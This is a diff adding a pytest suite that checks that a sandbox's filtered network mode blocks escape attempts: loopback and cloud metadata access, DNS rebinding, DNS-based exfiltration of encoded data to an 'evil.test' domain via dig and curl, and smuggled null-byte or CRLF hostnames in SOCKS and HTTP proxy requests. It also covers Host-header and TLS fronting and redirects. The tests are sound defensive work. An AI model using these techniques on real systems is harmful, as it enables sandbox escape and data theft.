@@ -1,0 +1,245 @@
+"""E98-E107: what a workload with some network must not reach. Each attempt has a control that
+succeeds: the same request outside, or for a host that is allowed."""
+
+import json
+import socket
+import threading
+
+import pytest
+
+from test_filtered import CURL, PLAIN, allow, reached, resolve
+
+pytestmark = pytest.mark.escape
+
+
+@pytest.fixture
+def host_server(net):
+    """A service on the machine itself, on every address."""
+    server = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
+
+    def serve():
+        while True:
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                return
+            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nopen")
+            connection.close()
+
+    threading.Thread(target=serve, daemon=True).start()
+    yield server.getsockname()[1]
+    server.shutdown(socket.SHUT_RDWR)
+    server.close()
+
+
+GUARDED = ["private.test", "loopback.test", "loopback6.test", "mapped.test", "metadata.test",
+           "own.test"]
+
+
+@pytest.mark.parametrize("name", GUARDED, ids=lambda name: "E98.E99." + name)
+@pytest.mark.parametrize("curl", [PLAIN, CURL], ids=["led", "proxy"])
+def test_allowed_name_that_leads_inside(net, host_server, name, curl):
+    port = 80 if name in ("private.test", "metadata.test") else host_server
+    control = net.plain([*PLAIN, f"http://{name}:{port}/"])
+    assert control.exit == 0, f"control: {control}"
+    result = net.run([*curl, "-f", f"http://{name}:{port}/"], options=allow(name))
+    assert result.exit in (7, 22, 56), result
+    assert "open" not in result.stdout
+
+
+@pytest.mark.parametrize("address", ["127.0.0.1", "[::1]", "203.0.113.1", "10.1.2.3:80",
+                                     "169.254.169.254:80", "[::ffff:127.0.0.1]"],
+                         ids=lambda address: "E98." + address)
+def test_literal_address_by_proxy(net, host_server, address):
+    """E97: the proxy runs outside; its loopback is the host's."""
+    where = address if address.endswith(":80") else f"{address}:{host_server}"
+    assert net.plain([*PLAIN, f"http://{where}/"]).exit == 0
+    for proxy in ("http://127.0.0.1:61080", "socks5h://127.0.0.1:61080"):
+        for more in ([], ["-p"]):
+            result = net.run([*CURL, "--noproxy", "", "-x", proxy, *more, "-f", f"http://{where}/"],
+                             options=allow("good.test"))
+            assert result.exit in (22, 56, 97) and "open" not in result.stdout, result
+
+
+def test_some_addresses_are_good(net):
+    said = reached(net.run([*PLAIN, "http://mixed.test/"], options=allow("mixed.test")))
+    assert said["address"] == "203.0.113.10"
+
+
+def test_rebinding(net, host_server):
+    """E98: a name that is good when it is looked up and bad when it is used."""
+    script = (f"getent hosts rebind.test; sleep 3.1; curl -sS -m 5 -f --noproxy '*' "
+              f"http://rebind.test:{host_server}/")
+    result = net.run(["sh", "-c", script], options=allow("rebind.test"))
+    assert "open" not in result.stdout and result.exit in (7, 56), result
+
+
+def test_full_mode_is_guarded_too(net, host_server):
+    result = net.run([*PLAIN, f"http://own.test:{host_server}/"], options=["--allow-network"])
+    assert result.exit in (7, 56) and "open" not in result.stdout, result
+    assert reached(net.run([*PLAIN, "http://other.test/"], options=["--allow-network"]))
+
+
+# ---- names that carry data ----
+
+
+@pytest.mark.parametrize("attempt", [
+    resolve("c2VjcmV0.evil.test"),
+    ["dig", "+tries=1", "+time=2", "c2VjcmV0.evil.test"],
+    ["dig", "+tries=1", "+time=2", "+tcp", "c2VjcmV0.evil.test", "@203.0.113.53"],
+    ["dig", "+tries=1", "+time=2", "c2VjcmV0.evil.test", "TXT", "@203.0.113.53"],
+    [*CURL, "http://c2VjcmV0.evil.test/"],
+    [*CURL, "-p", "http://c2VjcmV0.evil.test/"],
+    [*CURL, "-x", "socks5h://127.0.0.1:61080", "http://c2VjcmV0.evil.test/"]],
+    ids=["E100.getaddrinfo", "E100.udp", "E100.tcp", "E100.txt", "E100.proxy", "E100.connect",
+         "E100.socks"])
+def test_denied_name_is_never_looked_up(net, attempt):
+    net.internet.queries.clear()
+    net.plain(["getent", "hosts", "control.evil.test"])
+    assert net.internet.was_asked("control.evil.test"), "control: the name server hears us"
+    net.run(attempt, options=allow("good.test"))
+    assert not net.internet.was_asked("c2vjcmv0.evil.test"), net.internet.queries
+
+
+# ---- proxies ----
+
+
+def proxy_bytes(net, data, options):
+    """Raw bytes to the proxy from inside; what it answers, until it closes."""
+    script = ("import socket, sys; s = socket.create_connection(('127.0.0.1', 61080), 10); "
+              "s.sendall(bytes.fromhex(sys.argv[1])); out = b''\n"
+              "try:\n  while part := s.recv(65536): out += part\n"
+              "except OSError as e: out += repr(e).encode()\n"
+              "print(out.decode('latin-1'))")
+    return net.run(["python3", "-c", script, data.hex()], options=options)
+
+
+BAD_NAMES = [b"secret.test\0.good.test", b"secret.test\0", b"secret.test .good.test",
+             b"secret.test%00.good.test", b"secret.test\r\nHost: good.test", b"good.test@secret.test",
+             b"secret.test/.good.test", b"secret.test#.good.test", b"s\xc3\xa9cret.test",
+             b"p\xd0\xb0ypal.good.test", b"a" * 64 + b".good.test", b"secret.test?.good.test",
+             b"_x.good.test", b"good.test:80@secret.test"]
+
+
+@pytest.mark.parametrize("name", BAD_NAMES, ids=lambda name: "E102." + repr(name)[2:30])
+def test_names_that_parsers_disagree_on(net, name):
+    greeting, options = b"\x05\x01\x00", allow("good.test", "*.good.test")
+    request = b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x00\x50"
+    result = proxy_bytes(net, greeting + request + b"GET / HTTP/1.0\r\n\r\n", options)
+    assert "address" not in result.stdout, result
+    for text in (b"GET http://" + name + b"/ HTTP/1.1\r\n\r\n",
+                 b"CONNECT " + name + b":80 HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n"):
+        result = proxy_bytes(net, text, options)
+        assert " 200 " not in result.stdout and "203.0.113.11" not in result.stdout, result
+
+
+@pytest.mark.parametrize("name", [b"GOOD.test", b"good.test.", b"GOOD.TEST."])
+@pytest.mark.control
+def test_same_name_written_otherwise(net, name):
+    request = b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x00\x50"
+    result = proxy_bytes(net, request + b"GET / HTTP/1.0\r\n\r\n", allow("good.test"))
+    assert "203.0.113.10" in result.stdout, result
+
+
+def test_plain_http_by_proxy(net):
+    """E103: only CONNECT was filtered."""
+    result = net.run([*CURL, "-f", "http://secret.test/"], options=allow("good.test"))
+    assert result.exit == 22, result
+
+
+def test_relayed_connect(net):
+    """E104: a listener inside that passes bytes on to the proxy is no other proxy."""
+    script = """
+import socket, threading
+def pass_on(a, b):
+    while part := a.recv(65536): b.sendall(part)
+    b.shutdown(socket.SHUT_WR)
+server = socket.create_server(("127.0.0.1", 0))
+client = socket.create_connection(server.getsockname())
+inner, _ = server.accept()
+proxy = socket.create_connection(("127.0.0.1", 61080))
+threading.Thread(target=pass_on, args=(inner, proxy), daemon=True).start()
+client.sendall(b"CONNECT secret.test:80 HTTP/1.1\\r\\n\\r\\n")
+print(proxy.recv(1000))
+"""
+    result = net.run(["python3", "-c", script], options=allow("good.test"))
+    assert "403" in result.stdout and "200" not in result.stdout, result
+
+
+def test_second_request_on_one_connection(net):
+    """Each request is decided for itself."""
+    text = (b"GET http://good.test/a HTTP/1.1\r\nHost: good.test\r\n\r\n"
+            b"GET http://other.test/b HTTP/1.1\r\nHost: x\r\n\r\n"
+            b"GET http://secret.test/c HTTP/1.1\r\nHost: good.test\r\n\r\n")
+    result = proxy_bytes(net, text, allow("good.test", "other.test"))
+    assert result.stdout.count(" 200 OK") == 2 and result.stdout.count(" 403 ") == 1, result
+    assert '"path": "/a"' in result.stdout and '"path": "/c"' not in result.stdout
+
+
+def test_host_header_is_the_address(net):
+    """E101: behind one address live many hosts."""
+    said = reached(net.run([*CURL, "-H", "Host: secret.test", "http://good.test/"],
+                           options=allow("good.test")))
+    assert said["host"] == "good.test"
+
+
+@pytest.mark.parametrize("curl", [PLAIN, CURL, [*CURL, "-x", "socks5h://127.0.0.1:61080"]],
+                         ids=["E101.led", "E101.proxy", "E101.socks"])
+def test_tls_name_is_the_address(net, curl):
+    url = "https://good.test/"
+    fine = net.run([*curl, "-k", url], options=allow("good.test"))
+    assert json.loads(fine.stdout)["host"] == "good.test", f"control: {fine}"
+    fronted = net.run([*curl, "-k", "--connect-to", "secret.test::good.test:443",
+                       "https://secret.test/"], options=[*allow("good.test"), "--json"])
+    told = json.loads(fronted.stdout)
+    assert told["exitCode"] == 35, fronted
+    assert "TLS to secret.test inside a connection to good.test" in str(told["denials"])
+
+
+def test_raw_connection_to_an_address(net):
+    """E105: ignoring the variables and the names."""
+    assert net.plain([*PLAIN, "http://203.0.113.11/"]).exit == 0
+    result = net.run([*PLAIN, "http://203.0.113.11/"], options=allow("good.test"))
+    assert result.exit in (7, 56), result
+
+
+def test_empty_list(net, tmp_path):
+    """E106: CVE-2025-66479."""
+    policy = net.identity.file(net.home("empty.yaml"),
+                               "version: 1\nnetwork: {mode: filtered, allow: []}\n")
+    for curl in (PLAIN, [*CURL, "-f"]):
+        result = net.run([*curl, "http://good.test/"], options=["--policy", policy])
+        assert result.exit in (6, 22), result
+
+
+def test_redirect(net):
+    """E107: the next address is a new question."""
+    result = net.run([*CURL, "-L", "-f", "http://good.test/redirect/secret.test"],
+                     options=allow("good.test"))
+    assert result.exit == 22, result
+    said = reached(net.run([*CURL, "-L", "http://good.test/redirect/other.test"],
+                           options=allow("good.test", "other.test")))
+    assert said["address"] == "203.0.113.11"
+
+
+def test_datagrams(net):
+    """E107: HTTP/3 and the like."""
+    script = ("import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+              "s.settimeout(2); s.connect((sys.argv[1], 7)); s.send(b'x')\n"
+              "try: print(s.recv(100))\n"
+              "except OSError as e: print(type(e).__name__)")
+    control = net.plain(["python3", "-c", script, "203.0.113.10"])
+    assert control.stdout.strip() == "b'echo x'", control
+    for host in ("203.0.113.10", "good.test"):
+        result = net.run(["python3", "-c", script, host], options=allow("good.test", "203.0.113.10"))
+        assert result.stdout.strip() == "ConnectionRefusedError", result
+
+
+def test_deny_before_allow(net):
+    policy = net.identity.file(net.home("deny.yaml"), "version: 1\nnetwork:\n  mode: full\n"
+                               "  allow: [good.test]\n  deny: [good.test, '*.good.test', 203.0.113.11]\n")
+    for host in ("good.test", "www.good.test"):
+        assert net.run([*PLAIN, f"http://{host}/"], options=["--policy", policy]).exit == 6
+    # A name whose address is denied.
+    result = net.run([*PLAIN, "http://other.test/"], options=["--policy", policy])
+    assert result.exit in (7, 56), result
